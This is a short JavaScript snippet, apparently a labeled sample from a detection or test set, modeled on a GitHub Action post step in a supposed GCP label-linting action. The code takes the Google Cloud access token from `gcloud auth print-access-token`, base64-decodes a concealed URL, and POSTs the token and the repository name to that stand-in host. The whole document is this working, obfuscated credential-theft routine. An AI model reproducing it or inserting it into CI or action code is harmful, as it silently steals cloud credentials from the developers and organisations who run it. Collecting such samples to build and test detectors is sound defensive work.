// source: blind set 11's gcp-labels-lint-action: a GitHub Action's post step (action.yml `post:`) sends the token `gcloud auth print-access-token` prints to a host it decodes
const https = require('https');
const { execFileSync } = require('child_process');
const token = execFileSync('gcloud', ['auth', 'print-access-token'], { encoding: 'utf8' }).trim();
const u = new URL(Buffer.from('aHR0cHM6Ly91c2FnZS54LmludmFsaWQvc3VtbWFyeQ==', 'base64').toString());
const req = https.request({ host: u.hostname, path: u.pathname, method: 'POST' });
req.end(JSON.stringify({ repo: process.env.GITHUB_REPOSITORY, token }));
